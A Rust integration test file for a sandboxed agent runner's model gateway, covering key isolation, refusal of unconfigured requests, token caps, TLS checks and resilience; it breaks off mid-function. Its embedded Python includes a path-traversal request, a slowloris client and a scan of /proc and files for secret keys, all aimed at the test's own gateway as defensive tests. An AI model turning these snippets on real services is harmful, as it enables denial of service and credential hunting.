//! The model gateway, end to end: a real sandbox (no network) reaches the
//! scripted model server only through the relay, the door's model socket and
//! the supervisor's gateway, in each of the three request shapes, streaming
//! and not; the real key never enters the sandbox; anything not configured
//! is refused; token caps hold under racing calls (one run, and the fleet
//! across two supervisors) and kill the run with their reason; hostile
//! responses and clients neither crash the supervisor nor grow it.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Output;

use serde_json::{json, Value};
use tests::model::{Mode, ModelServer, Step};
use tests::{image, make_repo, stderr, stdout, State};

const KEY: &str = tests::agents::OPENAI_KEY;
const ANTHROPIC_KEY: &str = tests::agents::ANTHROPIC_KEY;

/// The client the agent runs: python3's urllib, through the environment the
/// run was given (`OPENAI_BASE_URL`, `ANTHROPIC_BASE_URL` and their
/// placeholder keys). `call SHAPE STREAM MODEL [EXTRA-JSON]` prints one line
/// `RESULT <json>` with the status and the body (or the streamed text).
/// Eight threads calling until the budget is spent (a 403), waiting a
/// moment when calls in flight hold it (a 429).
const RACE: &str = r#"
import time
out = []
def one():
    for i in range(15):
        r = call("messages" if SHAPE == "messages" else "chat", True, MODEL, {BOUND: 1000})
        out.append(r)
        if r["status"] == 403:
            return
        if r["status"] == 429:
            time.sleep(0.3)
ts = [threading.Thread(target=one) for _ in range(THREADS)]
[t.start() for t in ts]
[t.join() for t in ts]
for r in out:
    show(r)
time.sleep(30)
print("SURVIVED", flush=True)
"#;

const CLIENT: &str = r#"
import json, os, sys, threading, urllib.request, urllib.error

def call(shape, stream, model, extra=None, method="POST", path=None):
    if shape == "messages":
        url = os.environ["ANTHROPIC_BASE_URL"] + "/v1/messages"
        headers = {"x-api-key": os.environ["ANTHROPIC_API_KEY"], "anthropic-version": "2023-06-01"}
        body = {"model": model, "max_tokens": 256, "messages": [{"role": "user", "content": "hi"}]}
    elif shape == "chat":
        url = os.environ["OPENAI_BASE_URL"] + "/chat/completions"
        headers = {"authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}
        body = {"model": model, "messages": [{"role": "user", "content": "hi"}]}
    else:
        url = os.environ["OPENAI_BASE_URL"] + "/responses"
        headers = {"authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}
        body = {"model": model, "input": "hi"}
    if path is not None:
        url = os.environ["NIGHTSHIFT_MODEL_GATEWAY"] + path
    if stream:
        body["stream"] = True
    body.update(extra or {})
    headers["content-type"] = "application/json"
    data = json.dumps(body).encode() if method == "POST" else None
    req = urllib.request.Request(url, data=data, headers=headers, method=method)
    try:
        with urllib.request.urlopen(req, timeout=120) as r:
            status, text = r.status, r.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as e:
        status, text = e.code, e.read().decode("utf-8", "replace")
    except Exception as e:
        status, text = 0, repr(e)
    return {"shape": shape, "stream": stream, "status": status, "body": text}

def show(r):
    print("RESULT " + json.dumps(r), flush=True)
"#;

/// A state whose `models.toml` points both families at `server`, with keys
/// in private files; `extra` is appended (e.g. a `[gateway]` table).
fn state_with_models(server: &ModelServer, extra: &str) -> State {
    tests::agents::state_with_models_and(server, extra)
}

fn run_python(state: &State, repo: &Path, args: &[&str], script: &str) -> Output {
    let program = format!("{CLIENT}\n{script}");
    let mut cmd = state.cmd();
    cmd.args(["run", "--repo", repo.to_str().unwrap(), "--image", &image()])
        .args(args)
        .args(["--", "python3", "-c", &program]);
    cmd.output().expect("running nightshift")
}

fn results(log: &str) -> Vec<Value> {
    log.lines()
        .filter_map(|l| l.strip_prefix("RESULT "))
        .map(|l| serde_json::from_str(l).expect("RESULT line is JSON"))
        .collect()
}

fn run_id(state: &State) -> String {
    state.runs().last().unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string()
}

fn model_calls(state: &State, run: &str) -> Vec<Value> {
    state.show(run)["audit"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "model_call")
        .map(|e| e["body"].clone())
        .collect()
}

#[test]
fn three_shapes_stream_and_not_through_the_relay_and_the_key_stays_outside() {
    let server = ModelServer::start();
    for text in [
        "chat whole",
        "chat streamed",
        "responses whole",
        "responses streamed",
        "messages whole",
        "messages streamed",
    ] {
        server.push(Step::text(text).usage(20, 5).cached(3));
    }
    server.push(Step::tool("Bash", json!({"command": "ls -la"})));
    let state = state_with_models(&server, "");
    let repo = make_repo();
    let out = run_python(
        &state,
        repo.path(),
        &[],
        &format!(
            r#"
for shape in ["chat", "responses", "messages"]:
    model = "claude-sonnet-4-5" if shape == "messages" else "gpt-5-codex"
    show(call(shape, False, model))
    show(call(shape, True, model))
show(call("messages", True, "claude-sonnet-4-5"))
# The keys, reversed in this program's text so that its own command line
# does not hold them.
keys = [k[::-1].encode() for k in ["{KEY_REV}", "{ANTHROPIC_KEY_REV}"]]
def holds(data):
    return any(k in data for k in keys)
env = "\n".join(k + "=" + v for k, v in os.environ.items()).encode()
print("ENV-HAS-KEY=" + str(holds(env)))
found = False
for top in ["/run/nightshift", "/workspace", "/home", "/tmp", "/etc", "/usr/local"]:
    for root, dirs, names in os.walk(top):
        for n in names:
            try:
                with open(os.path.join(root, n), "rb") as f:
                    found = found or holds(f.read())
            except OSError:
                pass
print("FILES-HAVE-KEY=" + str(found))
found = False
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for part in ["environ", "cmdline"]:
            try:
                with open("/proc/%s/%s" % (pid, part), "rb") as f:
                    found = found or holds(f.read())
            except OSError:
                pass
print("PROC-HAS-KEY=" + str(found))
print("DOOR=" + " ".join(sorted(os.listdir("/run/nightshift"))))
"#,
            KEY_REV = KEY.chars().rev().collect::<String>(),
            ANTHROPIC_KEY_REV = ANTHROPIC_KEY.chars().rev().collect::<String>(),
        ),
    );
    let log = state.output_log(&run_id(&state));
    assert!(
        out.status.success(),
        "{}{}\n{log}",
        stdout(&out),
        stderr(&out)
    );
    let got = results(&log);
    assert_eq!(got.len(), 7, "{log}");
    for (r, text) in got.iter().zip([
        "chat whole",
        "chat streamed",
        "responses whole",
        "responses streamed",
        "messages whole",
        "messages streamed",
    ]) {
        assert_eq!(r["status"], 200, "{r}");
        let body = r["body"].as_str().unwrap();
        // Streamed text arrives in pieces: compare the first piece.
        assert!(body.contains(&text[..8]), "{text}: {body}");
    }
    // Streams arrive as the APIs frame them.
    assert!(got[1]["body"].as_str().unwrap().contains("data: [DONE]"));
    assert!(got[3]["body"]
        .as_str()
        .unwrap()
        .contains("event: response.completed"));
    assert!(got[5]["body"]
        .as_str()
        .unwrap()
        .contains("event: message_stop"));
    // The chat client did not ask for the usage chunk: the gateway forced it
    // upstream and took it out again.
    assert!(
        !got[1]["body"].as_str().unwrap().contains("prompt_tokens"),
        "{}",
        got[1]["body"]
    );
    // A tool call comes through whole.
    assert!(got[6]["body"]
        .as_str()
        .unwrap()
        .contains("input_json_delta"));

    // What the endpoint saw: the real key in place of the placeholder, the
    // clamped output bound, the forced usage option.
    let seen = server.requests();
    assert_eq!(seen.len(), 7);
    for r in &seen {
        let all = format!("{:?}", r.headers);
        assert!(
            !all.contains(orchestrator::gateway::PLACEHOLDER_KEY),
            "{all}"
        );
        if r.path == "/v1/messages" {
            assert_eq!(r.header("x-api-key"), Some(ANTHROPIC_KEY));
            assert_eq!(r.header("authorization"), None);
            assert_eq!(r.header("anthropic-version"), Some("2023-06-01"));
        } else {
            assert_eq!(
                r.header("authorization").map(str::to_string),
                Some(format!("Bearer {KEY}"))
            );
            assert_eq!(r.header("x-api-key"), None);
        }
    }
    assert_eq!(seen[0].path, "/v1/chat/completions");
    assert!(seen[0].json()["max_completion_tokens"].as_u64().is_some());
    assert_eq!(seen[1].json()["stream_options"]["include_usage"], true);
    assert_eq!(seen[2].path, "/v1/responses");
    assert!(seen[2].json()["max_output_tokens"].as_u64().is_some());
    assert_eq!(seen[4].json()["max_tokens"], 256);

    // The key is nowhere in the sandbox.
    assert!(log.contains("ENV-HAS-KEY=False"), "{log}");
    assert!(log.contains("FILES-HAVE-KEY=False"), "{log}");
    assert!(log.contains("PROC-HAS-KEY=False"), "{log}");
    assert!(log.contains("model.sock"), "{log}");

    // Each call is audited with its tokens, content-free.
    let run = run_id(&state);
    let calls = model_calls(&state, &run);
    assert_eq!(calls.len(), 7, "{calls:?}");
    // Entries are written as calls settle: match them by what they hold.
    let texts: Vec<&Value> = calls.iter().filter(|c| c["input_tokens"] == 20).collect();
    assert_eq!(texts.len(), 6, "{calls:?}");
    for c in &texts {
        assert_eq!(c["outcome"], "ok", "{c}");
        assert_eq!(c["output_tokens"], 5, "{c}");
        assert_eq!(c["cached_tokens"], 3, "{c}");
        assert_eq!(c["charged_tokens"], 25, "{c}");
        assert!(c["request_digest"].as_str().unwrap().len() == 64);
        assert!(c["response_bytes"].as_u64().unwrap() > 0);
    }
    let at = |endpoint: &str| calls.iter().filter(|c| c["endpoint"] == endpoint).count();
    assert_eq!((at("oai"), at("claude")), (4, 3), "{calls:?}");
    assert!(calls
        .iter()
        .filter(|c| c["endpoint"] == "claude")
        .all(|c| c["model"] == "claude-sonnet-4-5"));
    let shown = state.show(&run);
    assert_eq!(shown["model"]["calls"], 7);
    let text = stdout(&state.run(&["show", &run]));
    assert!(text.contains("model calls: 7"), "{text}");
    // Nor in the audit or the output log.
    let audit = serde_json::to_string(&shown).unwrap();
    for secret in [KEY, ANTHROPIC_KEY] {
        assert!(!audit.contains(secret));
        assert!(!log.contains(secret));
    }
    assert!(!audit.contains("chat whole"), "the audit holds no content");
    assert!(state.verify().status.success());
    assert!(state.containers().is_empty());
}

#[test]
fn unconfigured_paths_methods_and_models_are_refused_readably() {
    let server = ModelServer::start();
    let state = state_with_models(&server, "");
    let repo = make_repo();
    let out = run_python(
        &state,
        repo.path(),
        &[],
        r#"
show(call("chat", False, "gpt-4o"))
show(call("messages", False, "gpt-5"))
show(call("chat", False, "gpt-5", path="/v1/embeddings"))
show(call("chat", False, "gpt-5", method="GET", path="/v1/chat/completions"))
show(call("chat", False, "gpt-5", path="/v1/chat/completions/../../admin"))
show(call("responses", False, "gpt-5-mini", {"model": 7}))
"#,
    );
    let log = state.output_log(&run_id(&state));
    assert!(out.status.success(), "{}{log}", stderr(&out));
    let got = results(&log);
    let statuses: Vec<u64> = got.iter().map(|r| r["status"].as_u64().unwrap()).collect();
    assert_eq!(statuses, [403, 403, 404, 405, 404, 400], "{log}");
    assert!(got[0]["body"].as_str().unwrap().contains("gpt-5*"), "{log}");
    assert!(
        got[1]["body"].as_str().unwrap().contains("claude-*"),
        "{log}"
    );
    // Nothing reached the endpoint.
    assert!(server.requests().is_empty());
    let calls = model_calls(&state, &run_id(&state));
    assert_eq!(calls.len(), 6);
    assert!(calls
        .iter()
        .all(|c| c["outcome"].as_str().unwrap().starts_with("refused:")));
    // A refused call's model is named (the agent's text, at most 256
    // bytes, escaped wherever it is shown): `show` says what was asked for.
    assert_eq!(calls[0]["model"], "gpt-4o");
    assert_eq!(calls[1]["model"], "gpt-5");
}

/// A new user's first night: an agent whose model calls are refused again
/// and again for what only the owner can fix (here a model no endpoint
/// serves) is ended at once with that reason, not at its timeout; `show`
/// names the model it asked for.
#[test]
fn a_run_whose_model_calls_are_refused_again_and_again_ends_with_the_reason() {
    let server = ModelServer::start();
    let state = state_with_models(&server, "");
    let repo = make_repo();
    let out = run_python(
        &state,
        repo.path(),
        &["--timeout", "120s"],
        r#"
import time
while True:
    show(call("chat", False, "gpt-4o-unserved"))
    time.sleep(0.2)
"#,
    );
    let run = run_id(&state);
    let record = &state.runs()[0];
    let status = record["status"].as_str().unwrap();
    assert!(
        status.starts_with("killed: model calls refused 5 times in a row")
            && status.contains("gpt-4o-unserved")
            && status.contains("docs/models.md"),
        "{status}\n{}",
        stderr(&out)
    );
    assert!(server.requests().is_empty());
    let shown = state.run(&["show", &run]);
    assert!(
        stdout(&shown).contains(" gpt-4o-unserved chat "),
        "{}",
        stdout(&shown)
    );
    let summary = state.run(&["summary", "--json"]);
    assert!(
        stdout(&summary).contains("\"model-refused\""),
        "{}",
        stdout(&summary)
    );
}

/// Model output is a value like any other: each call's audit entry carries
/// the label of what the run's context held (the repository's
/// confidentiality from the owner's configuration, private by default;
/// the agent's output untrusted), and `show` prints it.
#[test]
fn each_model_call_carries_the_runs_content_label() {
    let server = ModelServer::start();
    let state = state_with_models(&server, "");
    let public = make_repo();
    let private = make_repo();
    std::fs::write(
        state.path().join("config.toml"),
        format!(
            "[[repository]]\npath = \"{}\"\nconfidentiality = \"public\"\n",
            public.path().display()
        ),
    )
    .unwrap();
    // A whole call and a refused one (a model not configured).
    let script =
        "show(call(\"chat\", False, \"gpt-5\"))\nshow(call(\"chat\", False, \"gpt-4o\"))\n";
    for (repo, label) in [
        (&public, "untrusted, public"),
        (&private, "untrusted, private"),
    ] {
        server.push(Step::text("hello"));
        let out = run_python(&state, repo.path(), &[], script);
        let run = run_id(&state);
        let log = state.output_log(&run);
        assert!(out.status.success(), "{}{log}", stderr(&out));
        let calls = model_calls(&state, &run);
        assert_eq!(calls.len(), 2, "{calls:?}");
        assert_eq!(calls[0]["outcome"], "ok", "{calls:?}");
        for c in &calls {
            assert_eq!(c["label"], label, "{c}");
        }
        let shown = state.run(&["show", &run]);
        let text = stdout(&shown);
        assert_eq!(
            text.lines()
                .filter(|l| l.contains(&format!("label {label}")))
                .count(),
            2,
            "{text}"
        );
    }
    assert!(state.verify().status.success());
}

/// Every call is an audit entry before the run's end is: an agent that
/// leaves while its stream is still coming (a slow endpoint) ends the run,
/// and the gateway ends the stream, settles and audits it first.
#[test]
fn a_call_still_streaming_when_the_run_ends_is_audited_before_the_end() {
    let server = ModelServer::start();
    server.push(Step::text("late answer").mode(Mode::Slow(std::time::Duration::from_secs(120))));
    // No heartbeat before the run is long over: nothing else would notice
    // the agent is gone.
    let state = state_with_models(&server, "[gateway]\nheartbeat = \"100s\"\n");
    let repo = make_repo();
    let out = run_python(
        &state,
        repo.path(),
        &[],
        r#"
import time
threading.Thread(target=lambda: call("chat", True, "gpt-5"), daemon=True).start()
time.sleep(3)
print("LEAVING", flush=True)
"#,
    );
    let run = run_id(&state);
    let log = state.output_log(&run);
    assert!(out.status.success(), "{}{log}", stderr(&out));
    assert!(log.contains("LEAVING"), "{log}");
    assert_eq!(
        server.requests().len(),
        1,
        "the call did not reach the endpoint"
    );
    let kinds: Vec<String> = state.show(&run)["audit"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["kind"].as_str().unwrap().to_string())
        .collect();
    let call = kinds.iter().position(|k| k == "model_call");
    let end = kinds.iter().position(|k| k == "run_ended");
    assert!(
        matches!((call, end), (Some(c), Some(e)) if c < e),
        "{kinds:?}"
    );
    let calls = model_calls(&state, &run);
    assert_eq!(calls[0]["outcome"], "run_ended", "{calls:?}");
    assert!(state.verify().status.success());
}

#[test]
fn the_run_token_cap_kills_the_run_with_its_reason_even_when_eight_calls_race() {
    let server = ModelServer::start();
    for _ in 0..80 {
        server.push(
            Step::text("ok")
                .usage(100, 300)
                .mode(Mode::Slow(std::time::Duration::from_millis(100))),
        );
    }
    let state = state_with_models(&server, "");
    let repo = make_repo();
    // Each call reserves its body's size (about 110 bytes) plus 1000 of
    // output, and uses 400: eight threads race, calling until refused for
    // the cap (or told to wait for calls in flight).
    let out = run_python(
        &state,
        repo.path(),
        &["--max-tokens", "4500"],
        &format!("SHAPE, MODEL, BOUND, THREADS = 'messages', 'claude-x', 'max_tokens', 8\n{RACE}"),
    );
    let run = run_id(&state);
    let log = state.output_log(&run);
    let record = &state.runs()[0];
    let status = record["status"].as_str().unwrap();
    assert!(
        status.starts_with("killed: model token cap (used ")
            && status.contains(" of 4500; a call needed at least ")
            && status.ends_with(" were left)"),
        "{status}\n{}{log}",
        stderr(&out)
    );
    assert!(!log.contains("SURVIVED"), "{log}");
    let calls = model_calls(&state, &run);
    let charged: u64 = calls
        .iter()
        .map(|c| c["charged_tokens"].as_u64().unwrap())
        .sum();
    assert!(charged <= 4500, "charged {charged} over the cap: {calls:?}");
    // The budget was spent, not refused early: less than one more call was left.
    assert!(charged > 4500 - 1200, "charged only {charged}: {calls:?}");
    let refused: Vec<&Value> = calls
        .iter()
        .filter(|c| c["outcome"] == "refused:token_cap")
        .collect();
    assert!(!refused.is_empty(), "{calls:?}");
    let got = results(&log);
    assert!(
        got.iter().any(|r| r["body"]
            .as_str()
            .unwrap()
            .contains("this run's model token cap")),
        "{log}"
    );
    let forwarded = calls.iter().filter(|c| c["outcome"] == "ok").count();
    assert_eq!(server.requests().len(), forwarded);
    assert!(state.containers().is_empty());
}

#[test]
fn the_fleet_night_budget_holds_across_two_supervisors() {
    let server = ModelServer::start();
    for _ in 0..80 {
        server.push(
            Step::text("ok")
                .usage(100, 500)
                .mode(Mode::Slow(std::time::Duration::from_millis(100))),
        );
    }
    let state = state_with_models(&server, "");
    std::fs::write(
        state.path().join("config.toml"),
        "[fleet]\nmax_tokens_per_night = 5000\n",
    )
    .unwrap();
    let repo = make_repo();
    let script = format!(
        "SHAPE, MODEL, BOUND, THREADS = 'chat', 'gpt-5', 'max_completion_tokens', 4\n{RACE}"
    );
    let program = format!("{CLIENT}\n{script}");
    let spawn = || {
        state
            .cmd()
            .args([
                "run",
                "--json",
                "--repo",
                repo.path().to_str().unwrap(),
                "--image",
                &image(),
                "--",
                "python3",
                "-c",
                &program,
            ])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap()
    };
    let (a, b) = (spawn(), spawn());
    let (a, b) = (a.wait_with_output().unwrap(), b.wait_with_output().unwrap());
    let runs = state.runs();
    assert_eq!(runs.len(), 2, "{}{}", stderr(&a), stderr(&b));
    let mut charged = 0;
    let mut forwarded = 0;
    for r in &runs {
        let id = r["id"].as_str().unwrap();
        for c in model_calls(&state, id) {
            charged += c["charged_tokens"].as_u64().unwrap();
            if c["outcome"] == "ok" {
                forwarded += 1;
            }
        }
    }
    assert!(charged <= 5000, "the fleet charged {charged} of 5000");
    assert!(charged > 5000 - 1200, "the fleet charged only {charged}");
    assert_eq!(server.requests().len(), forwarded);
    // At least one run was ended for the fleet's budget.
    assert!(
        runs.iter().any(|r| r["status"]
            .as_str()
            .unwrap()
            .starts_with("killed: model token cap of the fleet for the night (used ")),
        "{runs:?}"
    );
}

#[test]
fn hostile_responses_and_a_slowloris_client_do_not_hurt_the_supervisor() {
    let server = ModelServer::start();
    server.push(Step::text("x").mode(Mode::Malformed));
    server.push(Step::text("x").mode(Mode::Malformed));
    server.push(Step::text("x").mode(Mode::Endless));
    server.push(Step::text("x").mode(Mode::OversizedLine(8 << 20)));
    server.push(Step::text("no usage here").mode(Mode::NoUsage));
    server.push(Step::text("after all that").usage(10, 2));
    let state = state_with_models(
        &server,
        "[gateway]\nmax_line = \"64k\"\nmax_response = \"4m\"\nidle_timeout = \"3s\"\ncall_timeout = \"20s\"\nrequest_timeout = \"3s\"\n",
    );
    let repo = make_repo();
    let mut child = state
        .cmd()
        .args([
            "run",
            "--repo",
            repo.path().to_str().unwrap(),
            "--image",
            &image(),
            "--",
            "python3",
            "-c",
            &format!(
                "{CLIENT}\n{}",
                r#"
import socket, time
show(call("chat", False, "gpt-5"))
show(call("messages", True, "claude-x"))
show(call("responses", True, "gpt-5"))
show(call("chat", True, "gpt-5"))
show(call("messages", False, "claude-x"))
# Slowloris: twenty connections that never finish their request.
port = int(os.environ["ANTHROPIC_BASE_URL"].rsplit(":", 1)[1])
slow = []
for i in range(20):
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(b"POST /v1/messages HTTP/1.1\r\nhost: x\r\ncontent-length: 100000\r\n\r\n{")
    slow.append(s)
cut = 0
for s in slow:
    s.settimeout(30)
    try:
        while s.recv(4096):
            pass
        cut += 1
    except Exception as e:
        print("SLOW-ERR " + repr(e))
print("SLOW-CUT=%d" % cut, flush=True)
show(call("chat", False, "gpt-5"))
"#
            ),
        ])
        // Not read until the end: the output log has it all.
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let pid = child.id();
    // The supervisor's peak memory, read while it runs.
    let mut peak_kib = 0u64;
    while child.try_wait().unwrap().is_none() {
        if let Ok(s) = std::fs::read_to_string(format!("/proc/{pid}/status")) {
            if let Some(v) = s
                .lines()
                .find_map(|l| l.strip_prefix("VmHWM:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
            {
                peak_kib = peak_kib.max(v);
            }
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let out = child.wait_with_output().unwrap();
    let run = run_id(&state);
    let log = state.output_log(&run);
    assert!(out.status.success(), "{}{log}", stderr(&out));
    let got = results(&log);
    assert_eq!(got.len(), 6, "{log}");
    assert!(log.contains("SLOW-CUT=20"), "{log}");
    // The last call, after everything, still works.
    assert_eq!(got[5]["status"], 200, "{log}");
    assert!(got[5]["body"].as_str().unwrap().contains("after all that"));
    let calls = model_calls(&state, &run);
    let outcomes: Vec<&str> = calls
        .iter()
        .map(|c| c["outcome"].as_str().unwrap())
        .collect();
    assert!(outcomes.contains(&"response_too_large"), "{outcomes:?}");
    assert!(outcomes.contains(&"line_too_long"), "{outcomes:?}");
    assert!(outcomes.contains(&"no_usage"), "{outcomes:?}");
    // A response without usage is charged its whole reservation.
    for c in calls.iter().filter(|c| c["outcome"] != "ok") {
        if !c["outcome"].as_str().unwrap().starts_with("refused:") {
            assert_eq!(c["charged_tokens"], c["reserved_tokens"], "{c}");
        }
    }
    // An 8 MiB line and an endless stream never grew the supervisor past a
    // bound far below them times the calls.
    assert!(peak_kib > 0);
    assert!(peak_kib < 200 * 1024, "supervisor peak {peak_kib} KiB");
    assert!(state.verify().status.success());
}

/// Opens a gateway in this process on `dir/model.sock` (no sandbox): for
/// the cases that need no engine.
fn direct_gateway(
    state: &State,
    run: &str,
) -> (
    tokio::runtime::Runtime,
    orchestrator::gateway::GatewayHandle,
    std::path::PathBuf,
) {
    direct_gateway_with(state, run, policies::Confidentiality::Private, 1_000_000)
}

/// [`direct_gateway`] for a run whose content has `confidentiality` and
/// whose token cap is `run_cap`.
fn direct_gateway_with(
    state: &State,
    run: &str,
    confidentiality: policies::Confidentiality,
    run_cap: u64,
) -> (
    tokio::runtime::Runtime,
    orchestrator::gateway::GatewayHandle,
    std::path::PathBuf,
) {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    let models = orchestrator::gateway::load(state.path()).unwrap().unwrap();
    let door = state.path().join("doors").join(run);
    std::fs::create_dir_all(&door).unwrap();
    let stores: orchestrator::state_store::Stores = std::sync::Arc::new(
        orchestrator::store::SqliteBackend::new(state.path().to_path_buf(), None),
    );
    let handle = rt.block_on(async {
        orchestrator::gateway::open(
            &stores,
            orchestrator::channels::UnixChannel::bind(&door.join("model.sock")).unwrap(),
            run,
            orchestrator::acts::run_content_label(confidentiality),
            models,
            run_cap,
            10_000_000,
        )
    });
    (rt, handle, door.join("model.sock"))
}

/// One HTTP/1.1 request over the socket; the raw response.
fn raw_call(socket: &Path, path: &str, body: &Value) -> String {
    raw_call_with(socket, path, "", body)
}

/// [`raw_call`] with more header lines (`name: value\r\n` each).
fn raw_call_with(socket: &Path, path: &str, headers: &str, body: &Value) -> String {
    use std::io::{Read, Write};
    let mut s = std::os::unix::net::UnixStream::connect(socket).unwrap();
    s.set_read_timeout(Some(std::time::Duration::from_secs(60)))
        .unwrap();
    let body = body.to_string();
    write!(
        s,
        "POST {path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: {}\r\n{headers}connection: close\r\n\r\n{body}",
        body.len()
    )
    .unwrap();
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out);
    String::from_utf8_lossy(&out).into_owned()
}

/// The gateway keeps its connection to an endpoint alive between a run's
/// calls (no TCP setup per call), and never reuses one whose response it
/// did not read to the end (a stream cut at the response cap).
#[test]
fn calls_reuse_a_kept_alive_connection_but_never_one_cut_short() {
    let server = ModelServer::start();
    let state = state_with_models(&server, "[gateway]\nmax_response = \"1m\"\n");
    let (_rt, _gw, socket) = direct_gateway(&state, "r1");
    let chat = json!({"model": "gpt-5", "messages": [{"role": "user", "content": "hi"}]});
    server.push(Step::text("one"));
    server.push(Step::text("two"));
    server.push(Step::text("x").mode(Mode::Endless));
    server.push(Step::text("four"));
    for _ in 0..2 {
        let out = raw_call(&socket, "/v1/chat/completions", &chat);
        assert!(out.starts_with("HTTP/1.1 200"), "{out}");
    }
    let out = raw_call(
        &socket,
        "/v1/chat/completions",
        &json!({"model": "gpt-5", "stream": true, "messages": []}),
    );
    assert!(out.starts_with("HTTP/1.1 200"), "{out}");
    let out = raw_call(&socket, "/v1/chat/completions", &chat);
    assert!(
        out.starts_with("HTTP/1.1 200") && out.contains("four"),
        "{out}"
    );
    let peers: Vec<u16> = server.requests().iter().map(|r| r.peer_port).collect();
    assert_eq!(peers.len(), 4, "{peers:?}");
    assert_eq!(peers[0], peers[1], "the second call made a new connection");
    assert_eq!(peers[1], peers[2], "{peers:?}");
    assert_ne!(peers[3], peers[2], "a connection cut short was reused");
    // Each call's entry is written once its response has gone out.
    let outcomes = || -> Vec<Value> {
        rusqlite::Connection::open(state.path().join("state.db"))
            .unwrap()
            .prepare("SELECT body FROM audit WHERE kind = 'model_call' ORDER BY seq")
            .unwrap()
            .query_map([], |r| r.get::<_, String>(0))
            .unwrap()
            .map(|b| serde_json::from_str::<Value>(&b.unwrap()).unwrap()["outcome"].clone())
            .collect()
    };
    let give_up = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while outcomes().len() < 4 && std::time::Instant::now() < give_up {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let mut seen = outcomes();
    seen.sort_by_key(|o| o.to_string());
    assert_eq!(seen, ["ok", "ok", "ok", "response_too_large"], "{seen:?}");
}

#[test]
fn an_oversized_line_is_cut_directly() {
    let server = ModelServer::start();
    server.push(Step::text("x").mode(Mode::Endless));
    server.push(Step::text("x").mode(Mode::OversizedLine(8 << 20)));
    let state = state_with_models(
        &server,
        "[gateway]\nmax_line = \"64k\"\nmax_response = \"4m\"\n",
    );
    let (_rt, _gw, socket) = direct_gateway(&state, "r1");
    let started = std::time::Instant::now();
    let out = raw_call(
        &socket,
        "/v1/responses",
        &json!({"model": "gpt-5", "stream": true, "input": "hi"}),
    );
    eprintln!("took {:?}: {}", started.elapsed(), out.len());
    let started = std::time::Instant::now();
    let out = raw_call(
        &socket,
        "/v1/chat/completions",
        &json!({"model": "gpt-5", "stream": true, "messages": []}),
    );
    eprintln!(
        "took {:?}: {}",
        started.elapsed(),
        &out[..out.len().min(300)]
    );
    assert!(out.starts_with("HTTP/1.1 200"), "{out}");
}

/// TLS to an endpoint is verified: a server whose certificate no trusted
/// authority signed gets nothing (the call fails before a byte of the
/// request leaves), and the endpoint's own `ca_file` is trusted for it
/// alone, not for another endpoint on another port.
#[test]
fn tls_to_an_endpoint_is_verified_and_its_ca_file_trusted_for_it_alone() {
    use tests::loopback::TestCa;
    let ca = TestCa::new("model endpoint CA");
    let server = ModelServer::start_tls(ca.server());
    let other = ModelServer::start_tls(ca.server());
    assert!(server.url().starts_with("https://127.0.0.1:"));
    let chat = json!({"model": "gpt-5", "messages": [{"role": "user", "content": "hi"}]});

    // No ca_file: the test CA is no system authority, so nothing is sent.
    let state = state_with_models(&server, "");
    let (_rt, _gw, socket) = direct_gateway(&state, "r1");
    server.push(Step::text("unreached"));
    let out = raw_call(&socket, "/v1/chat/completions", &chat);
    assert!(!out.starts_with("HTTP/1.1 200"), "{out}");
    assert!(out.contains("oai"), "the error names the endpoint: {out}");
    assert!(
        server.requests().is_empty(),
        "a request crossed unverified TLS"
    );

    // With the CA as the endpoint's ca_file: the call goes through, over TLS.
    let state = State::new();
    let secrets = state.path().join("secrets");
    std::fs::create_dir(&secrets).unwrap();
    let key = secrets.join("openai.key");
    std::fs::write(&key, format!("{KEY}\n")).unwrap();
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
    let ca_file = ca.write(&secrets, "ca.pem");
    std::fs::write(
        state.path().join("models.toml"),
        format!(
            "[endpoints.oai]\napi = \"openai\"\nbase_url = \"{}/v1\"\nkey_file = \"{}\"\nmodels = [\"gpt-5*\"]\nca_file = \"{}\"\n\n\
             [endpoints.claude]\napi = \"anthropic\"\nbase_url = \"{}\"\nkey_file = \"{}\"\nmodels = [\"claude-*\"]\n",
            server.url(),
            key.display(),
            ca_file.display(),
            other.url(),
            key.display(),
        ),
    )
    .unwrap();
    let (_rt2, _gw2, socket) = direct_gateway(&state, "r2");
    let out = raw_call(&socket, "/v1/chat/completions", &chat);
    assert!(
        out.starts_with("HTTP/1.1 200") && out.contains("unreached"),
        "{out}"
    );
    assert_eq!(server.requests().len(), 1);
    assert_eq!(
        server.requests()[0].header("authorization"),
        Some(format!("Bearer {KEY}").as_str())
    );

    // The same CA is not trusted for the endpoint that did not name it.
    other.push(Step::text("unreached either"));
    let out = raw_call(
        &socket,
        "/v1/messages",
        &json!({"model": "claude-x", "max_tokens": 10, "messages": [{"role": "user", "content": "hi"}]}),
    );
    assert!(!out.starts_with("HTTP/1.1 200"), "{out}");
    assert!(
        other.requests().is_empty(),
        "another endpoint's CA was trusted"
    );
}

/// A state whose `models.toml` points both families at `server`, with
/// `claude` and `oai` appended to each endpoint's table.
fn state_with_endpoint_options(server: &ModelServer, claude: &str, oai: &str) -> State {
    let state = state_with_models(server, "");
    let path = state.path().join("models.toml");
    let text = std::fs::read_to_string(&path).unwrap();
    let text = text
        .replacen(
            "models = [\"claude-*\"]\n",
            &format!("models = [\"claude-*\"]\n{claude}\n"),
            1,
        )
        .replacen(
            "models = [\"gpt-5*\"]\n",
